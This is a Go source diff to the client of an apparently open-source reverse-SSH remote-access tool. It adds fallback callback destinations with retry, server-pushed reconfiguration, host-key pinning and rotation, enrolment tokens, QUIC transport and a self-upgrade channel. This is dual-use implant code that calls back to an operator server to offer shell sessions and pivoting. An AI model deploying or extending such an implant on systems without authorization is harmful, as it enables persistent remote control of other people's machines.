@@ -3,7 +3,9 @@ package client
 import (
 	"bufio"
 	"bytes"
+	"context"
 	"crypto/tls"
+	"crypto/x509"
 	"encoding/base64"
 	"fmt"
 	"io"
@@ -16,6 +18,7 @@ import (
 	"runtime"
 	"strconv"
 	"strings"
+	"sync"
 	"time"
 
 	"github.com/NHAS/reverse_ssh/internal"
@@ -23,6 +26,7 @@ import (
 	"github.com/NHAS/reverse_ssh/internal/client/handlers"
 	"github.com/NHAS/reverse_ssh/internal/client/keys"
 	"github.com/NHAS/reverse_ssh/pkg/logger"
+	"github.com/NHAS/reverse_ssh/pkg/mux"
 	"github.com/bodgit/ntlmssp"
 	"golang.org/x/crypto/ssh"
 	socks "golang.org/x/net/proxy"
@@ -301,10 +305,33 @@ func getCaseInsensitiveEnv(envs ...string) (ret []string) {
 }
 
 type Settings struct {
-	Addr        string
-	Fingerprint string
-	ProxyAddr   string
-	SNI         string
+	// Guards the settings the server can change while connected
+	mu sync.Mutex
+
+	// Tried in order, starting with whichever last worked
+	Destinations []Destination
+	// If set, where the server can have reconfigured destinations saved
+	DestinationFile string
+	Fingerprints    []string
+	// Used by destinations that dont set their own
+	ProxyAddr string
+	SNI       string
+
+	// If set, updated when the server rotates its host key
+	FingerprintFile string
+	// Otherwise rotations are saved here so the pins survive restarts, defaults to the executable path with .rotations appended
+	RotationsFile string
+	// Pin the first key the server presents and save it to FingerprintFile, any other key is refused afterwards
+	TrustOnFirstUse bool
+	// Refuse to connect unless a server key is pinned
+	Strict bool
+
+	// Verify the servers TLS certificate against the system roots and any added CAs, rather than only using TLS as a transport
+	TLSVerify bool
+	// Hex sha256 of a TLS public key, one of which must appear in the servers certificate chain
+	TLSPins       []string
+	tlsRootCAs    []*x509.Certificate
+	tlsClientCert *tls.Certificate
 
 	ProxyUseHostKerberos bool
 
@@ -312,6 +339,19 @@ type Settings struct {
 
 	ConnectTimeout time.Duration
 
+	// Bounds on the random delay before retrying a destination that failed, zero uses the defaults
+	RetryMin, RetryMax time.Duration
+
+	// How often to send keepalives to the server, zero only answers the servers own
+	Keepalive time.Duration
+
+	// Command line the client was started with, as main parses it, used to restart after an upgrade. Upgrades are refused without it, e.g when loaded as a library
+	Argv string
+
+	// One time token used to register a generated key with the server instead of using the embedded key
+	EnrolmentToken  string
+	EnrolledKeyPath string
+
 	ntlm *ntlmssp.Client
 }
 
@@ -334,8 +374,48 @@ func (s *Settings) SetNTLMProxyCreds(creds string) error {
 	return err
 }
 
+func sniServerName(sni, realAddr string) string {
+	if len(sni) != 0 {
+		return sni
+	}
+
+	parts := strings.Split(realAddr, ":")
+	if len(parts) == 2 {
+		return parts[0]
+	}
+
+	return realAddr
+}
+
 func Run(settings *Settings) {
 
+	if err := loadRotations(settings); err != nil {
+		log.Println("Unable to load saved host key rotations: ", err)
+	}
+
+	if settings.Strict && len(settings.Fingerprints) == 0 && !settings.TrustOnFirstUse {
+		log.Fatal("Strict mode is enabled but no server fingerprint is pinned, refusing to run")
+	}
+
+	var (
+		enrolling bool
+		err       error
+	)
+	if settings.EnrolmentToken != "" {
+		enrolmentKey, err := prepareEnrolment(settings)
+		if err != nil {
+			log.Fatal("Preparing key for enrolment failed: ", err)
+		}
+
+		// Saved before the token is ever sent, so if the connection drops after the server used the token the key it authorized is kept
+		if enrolmentKey != nil {
+			saveEnrolledKey(settings, enrolmentKey)
+		}
+
+		// A saved key may not have reached the server with its token, the server only asks for the token while the key is unknown
+		enrolling = true
+	}
+
 	sshPriv, sysinfoError := keys.GetPrivateKey()
 	if sysinfoError != nil {
 		log.Fatal("Getting private key failed: ", sysinfoError)
@@ -343,158 +423,58 @@ func Run(settings *Settings) {
 
 	l := logger.NewLog("client")
 
-	var err error
 	settings.ProxyAddr, err = GetProxyDetails(settings.ProxyAddr)
 	if err != nil {
 		log.Fatal("Invalid proxy details", settings.ProxyAddr, ":", err)
 	}
 
-	var username string
-	userInfo, sysinfoError := user.Current()
-	if sysinfoError != nil {
-		l.Warning("Couldnt get username: %s", sysinfoError.Error())
-		username = "Unknown"
-	} else {
-		username = userInfo.Username
-	}
-
-	hostname, sysinfoError := os.Hostname()
-	if sysinfoError != nil {
-		hostname = "Unknown Hostname"
-		l.Warning("Couldnt get host name: %s", sysinfoError)
-	}
+	// Key presented by the server in the most recent handshake, used to verify host key rotations
+	var serverHostKey ssh.PublicKey
 
 	config := &ssh.ClientConfig{
 		Timeout: settings.ConnectTimeout,
-		User:    fmt.Sprintf("%s.%s", username, hostname),
+		User:    sshUser(l),
 		Auth: []ssh.AuthMethod{
 			ssh.PublicKeys(sshPriv),
 		},
 		HostKeyCallback: func(hostname string, remote net.Addr, key ssh.PublicKey) error {
-			if settings.Fingerprint == "" { // If a server key isnt supplied, fail open. Potentially should change this for more paranoid people
-				l.Warning("No server key specified, allowing connection to %s", settings.Addr)
-				return nil
+			if err := checkHostKey(settings, key); err != nil {
+				return err
 			}
 
-			if internal.FingerprintSHA256Hex(key) != settings.Fingerprint {
-				return fmt.Errorf("server public key invalid, expected: %s, got: %s", settings.Fingerprint, internal.FingerprintSHA256Hex(key))
-			}
+			serverHostKey = key
 
 			return nil
 		},
-		ClientVersion: "SSH-" + internal.Version + "-" + runtime.GOOS + "_" + runtime.GOARCH,
+		ClientVersion: settings.clientVersion(),
 	}
 
-	if settings.VersionString != "" {
-		config.ClientVersion = "SSH-" + settings.VersionString
+	// Unknown keys are only let in after presenting the token, which the server asks for after accepting the key
+	var askedForToken bool
+	if enrolling {
+		config.Auth = append(config.Auth, enrolmentAuth(settings, &askedForToken))
 	}
 
-	realAddr, scheme := determineConnectionType(settings.Addr)
+	destinations := newDestinationPool(settings.destinations(), settings.RetryMin, settings.RetryMax)
 
-	// fetch the environment variables, but the first proxy is done from the supplied proxyAddr arg
-	potentialProxies := getCaseInsensitiveEnv("http_proxy", "https_proxy")
-	triedProxyIndex := 0
-	initialProxyAddr := settings.ProxyAddr
 	for {
+		dest := destinations.next()
+		realAddr, scheme := determineConnectionType(dest.Addr)
+
 		var conn net.Conn
 		if scheme != "stdio" {
-			log.Println("Connecting to", settings.Addr)
+			log.Println("Connecting to", dest.Addr)
 
-			// First create raw TCP connection
-			conn, err = Connect(realAddr, settings.ProxyAddr, settings.ConnectTimeout, settings.ProxyUseHostKerberos, settings.ntlm)
+			conn, err = connect(settings, dest.Destination, realAddr, scheme)
 			if err != nil {
-
 				if errMsg := err.Error(); strings.Contains(errMsg, "missing port in address") {
-					log.Fatalf("Unable to connect to TCP invalid address: %q, %s", settings.Addr, errMsg)
+					log.Fatalf("Unable to connect to TCP invalid address: %q, %s", dest.Addr, errMsg)
 				}
 
-				log.Printf("Unable to connect directly TCP: %v\n", err)
-
-				if len(potentialProxies) > 0 {
-					if len(potentialProxies) <= triedProxyIndex {
-						log.Printf("Unable to connect via proxies (from env), retrying with proxy as %q: %v", potentialProxies, initialProxyAddr)
-						triedProxyIndex = 0
-						settings.ProxyAddr = initialProxyAddr
-						continue
-					}
-					proxy := potentialProxies[triedProxyIndex]
-					triedProxyIndex++
-
-					log.Println("Trying to proxy via env variable (", proxy, ")")
-
-					settings.ProxyAddr, err = GetProxyDetails(proxy)
-					if err != nil {
-						log.Println("Could not parse the env proxy value: ", proxy)
-					}
-					// dont wait 10 seconds, just immediately try each proxy
-					continue
-				}
-
-				time.Sleep(10 * time.Second)
+				log.Printf("Unable to connect to %s: %s\n", dest.Addr, err)
+				destinations.failed(dest)
 				continue
 			}
-
-			// Add on transports as we go
-			if scheme == "tls" || scheme == "wss" || scheme == "https" {
-
-				sniServerName := settings.SNI
-				if len(settings.SNI) == 0 {
-					sniServerName = realAddr
-					parts := strings.Split(realAddr, ":")
-					if len(parts) == 2 {
-						sniServerName = parts[0]
-					}
-				}
-
-				clientTlsConn := tls.Client(conn, &tls.Config{
-					InsecureSkipVerify: true,
-					ServerName:         sniServerName,
-				})
-				err = clientTlsConn.Handshake()
-				if err != nil {
-					log.Printf("Unable to connect TLS: %s\n", err)
-					<-time.After(10 * time.Second)
-					continue
-				}
-
-				conn = clientTlsConn
-			}
-
-			switch scheme {
-			case "wss", "ws":
-				c, err := websocket.NewConfig("ws://"+realAddr+"/ws", "ws://"+realAddr)
-				if err != nil {
-					log.Println("Could not create websockets configuration: ", err)
-					<-time.After(10 * time.Second)
-
-					continue
-				}
-
-				wsConn, err := websocket.NewClient(c, conn)
-				if err != nil {
-					log.Printf("Unable to connect WS: %s\n", err)
-					<-time.After(10 * time.Second)
-					continue
-
-				}
-				// Pain and suffering https://github.com/golang/go/issues/7350
-				wsConn.PayloadType = websocket.BinaryFrame
-
-				conn = wsConn
-			case "http", "https":
-
-				conn, err = NewHTTPConn(scheme+"://"+realAddr, func() (net.Conn, error) {
-					return Connect(realAddr, settings.ProxyAddr, settings.ConnectTimeout, settings.ProxyUseHostKerberos, settings.ntlm)
-				})
-
-				if err != nil {
-					log.Printf("Unable to connect HTTP: %s\n", err)
-					<-time.After(10 * time.Second)
-					continue
-				}
-
-			}
-
 		} else {
 			conn = &InetdConn{}
 		}
@@ -503,29 +483,57 @@ func Run(settings *Settings) {
 		// After this the timeout gets updated by the server
 		realConn := &internal.TimeoutConn{Conn: conn, Timeout: 4 * time.Minute}
 
-		sshConn, chans, reqs, err := ssh.NewClientConn(realConn, settings.Addr, config)
+		askedForToken = false
+		sshConn, chans, reqs, err := ssh.NewClientConn(realConn, dest.Addr, config)
 		if err != nil {
 			realConn.Close()
 
-			log.Printf("Unable to start a new client connection: %s\n", err)
+			if askedForToken {
+				// The token may have been used up by an attempt that dropped after the server authorized the key, which the next attempt logs in with
+				log.Printf("%s: %s\n", errEnrolmentRefused, err)
+			} else {
+				log.Printf("Unable to start a new client connection: %s\n", err)
+			}
 
 			if scheme == "stdio" {
 				// If we are in stdin/stdout mode (https://github.com/NHAS/reverse_ssh/issues/149), and something happens to our socket, just die. As we cant recover the connection (its for the harness to do)
 				return
 			}
 
-			<-time.After(10 * time.Second)
+			destinations.failed(dest)
 			continue
 		}
 
-		if len(potentialProxies) > 0 {
-			// reset proxy counter after success, so we always check the avaliable proxies
-			triedProxyIndex = 0
+		destinations.succeeded(dest)
+
+		log.Println("Successfully connnected", dest.Addr)
+
+		if enrolling {
+			if askedForToken {
+				log.Println("Enrolled with server")
+			}
+
+			// Either way the key is now accepted, so the token is never sent again
+			enrolling = false
+			config.Auth = config.Auth[:1]
+		}
+
+		//Do not register new client callbacks here, they are actually within the JumpHandler
+		//session is handled here as a legacy hangerover from allowing a client who has directly connected to the servers console to run the connect command
+		//Otherwise anything else should be done via jumphost syntax -J
+		channels := map[string]func(newChannel ssh.NewChannel, log logger.Logger){
+			"session":        handlers.Session(connection.NewSession(sshConn)),
+			"jump":           handlers.JumpHandler(sshPriv, sshConn),
+			"log-to-console": handlers.LogToConsole,
+			"rssh-upgrade":   upgrade(settings, sshConn),
 		}
 
-		log.Println("Successfully connnected", settings.Addr)
+		// Older servers dont know this request and ignore it
+		if _, _, err := sshConn.SendRequest("capabilities-rssh@golang.org", false, ssh.Marshal(capabilities(channels))); err != nil {
+			log.Println("Unable to send capabilities to server: ", err)
+		}
 
-		go func() {
+		go func(hostKey ssh.PublicKey) {
 
 			for req := range reqs {
 
@@ -545,6 +553,45 @@ func Run(settings *Settings) {
 
 					realConn.Timeout = time.Duration(timeout*2) * time.Second
 
+				case "retry-after-rssh@golang.org":
+					seconds, err := strconv.Atoi(string(req.Payload))
+					if err != nil || seconds <= 0 || seconds > int(internal.MaxRetryAfter.Seconds()) {
+						req.Reply(false, nil)
+						continue
+					}
+
+					log.Printf("Server asked us to wait %ds before reconnecting\n", seconds)
+					destinations.retryAfter(time.Duration(seconds) * time.Second)
+					req.Reply(true, nil)
+
+				case "reconfigure-rssh@golang.org":
+					var r internal.Reconfiguration
+					if err := ssh.Unmarshal(req.Payload, &r); err != nil {
+						req.Reply(false, []byte(fmt.Sprintf("malformed reconfiguration: %s", err)))
+						continue
+					}
+
+					summary, err := settings.reconfigure(r, destinations)
+					if err != nil {
+						log.Println("Refused reconfiguration from server:", err)
+						req.Reply(false, []byte(err.Error()))
+						continue
+					}
+
+					log.Println("Server reconfigured client:", summary)
+					req.Reply(true, []byte(summary))
+
+				case "hostkey-rotate-rssh@golang.org":
+					fingerprint, err := acceptHostKeyAnnouncement(hostKey, sshConn.SessionID(), req.Payload)
+					if err != nil {
+						log.Println("Rejected host key rotation: ", err)
+						req.Reply(false, []byte(err.Error()))
+						continue
+					}
+
+					log.Println("Server will rotate its host key to ", fingerprint)
+					req.Reply(true, nil)
+
 				case "log-level":
 					u, err := logger.StrToUrgency(string(req.Payload))
 					if err != nil {
@@ -605,19 +652,16 @@ func Run(settings *Settings) {
 				}
 
 			}
-		}()
+		}(serverHostKey)
+
+		done := make(chan struct{})
+		go keepalive(sshConn, settings, done)
 
 		clientLog := logger.NewLog("client")
 
-		//Do not register new client callbacks here, they are actually within the JumpHandler
-		//session is handled here as a legacy hangerover from allowing a client who has directly connected to the servers console to run the connect command
-		//Otherwise anything else should be done via jumphost syntax -J
-		err = connection.RegisterChannelCallbacks(chans, clientLog, map[string]func(newChannel ssh.NewChannel, log logger.Logger){
-			"session":        handlers.Session(connection.NewSession(sshConn)),
-			"jump":           handlers.JumpHandler(sshPriv, sshConn),
-			"log-to-console": handlers.LogToConsole,
-		})
+		err = connection.RegisterChannelCallbacks(chans, clientLog, channels)
 
+		close(done)
 		sshConn.Close()
 		handlers.StopAllRemoteForwards()
 
@@ -628,12 +672,163 @@ func Run(settings *Settings) {
 				return
 			}
 
-			<-time.After(10 * time.Second)
+			// Another destination is tried straight away, this one after a delay in case the server is restarting
+			destinations.failed(dest)
+			continue
+		}
+
+	}
+
+}
+
+// sshUser is how the client introduces itself to the server, <username>.<hostname>
+func sshUser(l logger.Logger) string {
+	username := "Unknown"
+	userInfo, err := user.Current()
+	if err != nil {
+		l.Warning("Couldnt get username: %s", err.Error())
+	} else {
+		username = userInfo.Username
+	}
+
+	hostname, err := os.Hostname()
+	if err != nil {
+		hostname = "Unknown Hostname"
+		l.Warning("Couldnt get host name: %s", err)
+	}
+
+	return fmt.Sprintf("%s.%s", username, hostname)
+}
+
+func (s *Settings) clientVersion() string {
+	if s.VersionString != "" {
+		return "SSH-" + s.VersionString
+	}
+
+	return "SSH-" + internal.Version + "-" + runtime.GOOS + "_" + runtime.GOARCH
+}
+
+// destinations fills in the clients own SNI and proxy for destinations that dont set their own
+func (s *Settings) destinations() []Destination {
+	s.mu.Lock()
+	defer s.mu.Unlock()
+
+	var result []Destination
+	for _, d := range s.Destinations {
+		if d.SNI == "" {
+			d.SNI = s.SNI
+		}
+
+		if d.ProxyAddr == "" {
+			d.ProxyAddr = s.ProxyAddr
+		}
+
+		result = append(result, d)
+	}
+
+	return result
+}
+
+// connect creates the raw connection to dest and adds on the transports its scheme asks for
+func connect(settings *Settings, dest Destination, realAddr, scheme string) (net.Conn, error) {
+	tlsConfig := settings.tlsConfig(sniServerName(dest.SNI, realAddr))
+
+	// QUIC is UDP, so it cant be sent through http or socks proxies and needs no further transports
+	if scheme == "quic" {
+		return connectQUIC(settings, realAddr, tlsConfig)
+	}
+
+	conn, proxyAddr, err := connectTCP(settings, dest, realAddr)
+	if err != nil {
+		return nil, err
+	}
+
+	// Add on transports as we go
+	if scheme == "tls" || scheme == "wss" || scheme == "https" {
+
+		clientTlsConn := tls.Client(conn, tlsConfig)
+		err = clientTlsConn.Handshake()
+		if err != nil {
+			conn.Close()
+			return nil, fmt.Errorf("unable to connect TLS: %w", err)
+		}
+
+		conn = clientTlsConn
+	}
+
+	switch scheme {
+	case "wss", "ws":
+		c, err := websocket.NewConfig("ws://"+realAddr+"/ws", "ws://"+realAddr)
+		if err != nil {
+			conn.Close()
+			return nil, fmt.Errorf("could not create websockets configuration: %w", err)
+		}
+
+		wsConn, err := websocket.NewClient(c, conn)
+		if err != nil {
+			conn.Close()
+			return nil, fmt.Errorf("unable to connect WS: %w", err)
+		}
+		// Pain and suffering https://github.com/golang/go/issues/7350
+		wsConn.PayloadType = websocket.BinaryFrame
+
+		conn = wsConn
+	case "http", "https":
+		// Polling makes its own connections, so the one used to check the server is reachable isnt needed
+		conn.Close()
+
+		conn, err = NewHTTPConn(scheme+"://"+realAddr, tlsConfig, func() (net.Conn, error) {
+			return Connect(realAddr, proxyAddr, settings.ConnectTimeout, settings.ProxyUseHostKerberos, settings.ntlm)
+		})
+		if err != nil {
+			return nil, fmt.Errorf("unable to connect HTTP: %w", err)
+		}
+	}
+
+	return conn, nil
+}
+
+// connectTCP tries the destinations proxy (or none), then each proxy from the environment, returning the proxy that worked
+func connectTCP(settings *Settings, dest Destination, realAddr string) (net.Conn, string, error) {
+	conn, err := Connect(realAddr, dest.ProxyAddr, settings.ConnectTimeout, settings.ProxyUseHostKerberos, settings.ntlm)
+	if err == nil {
+		return conn, dest.ProxyAddr, nil
+	}
+
+	if strings.Contains(err.Error(), "missing port in address") {
+		return nil, "", err
+	}
+
+	// dont wait, just immediately try each proxy
+	for _, proxy := range getCaseInsensitiveEnv("http_proxy", "https_proxy") {
+		log.Println("Trying to proxy via env variable (", proxy, ")")
+
+		proxyAddr, proxyErr := GetProxyDetails(proxy)
+		if proxyErr != nil {
+			log.Println("Could not parse the env proxy value: ", proxy)
 			continue
 		}
 
+		conn, proxyErr = Connect(realAddr, proxyAddr, settings.ConnectTimeout, settings.ProxyUseHostKerberos, settings.ntlm)
+		if proxyErr == nil {
+			return conn, proxyAddr, nil
+		}
+
+		log.Printf("Unable to connect via proxy %q: %v\n", proxy, proxyErr)
+	}
+
+	return nil, "", err
+}
+
+func connectQUIC(settings *Settings, realAddr string, tlsConfig *tls.Config) (net.Conn, error) {
+	ctx := context.Background()
+	if settings.ConnectTimeout > 0 {
+		var cancel context.CancelFunc
+		ctx, cancel = context.WithTimeout(ctx, settings.ConnectTimeout)
+		defer cancel()
 	}
 
+	return mux.DialQUIC(ctx, realAddr, tlsConfig)
 }
 
 var matchSchemeDefinition = regexp.MustCompile(`.*\:\/\/`)
@@ -659,7 +854,7 @@ func determineConnectionType(addr string) (resultingAddr, transport string) {
 	if u.Port() == "" {
 		// Set default port if none specified
 		switch u.Scheme {
-		case "tls", "wss":
+		case "tls", "wss", "quic":
 			return u.Host + ":443", u.Scheme
 		case "ws":
 			return u.Host + ":80", u.Scheme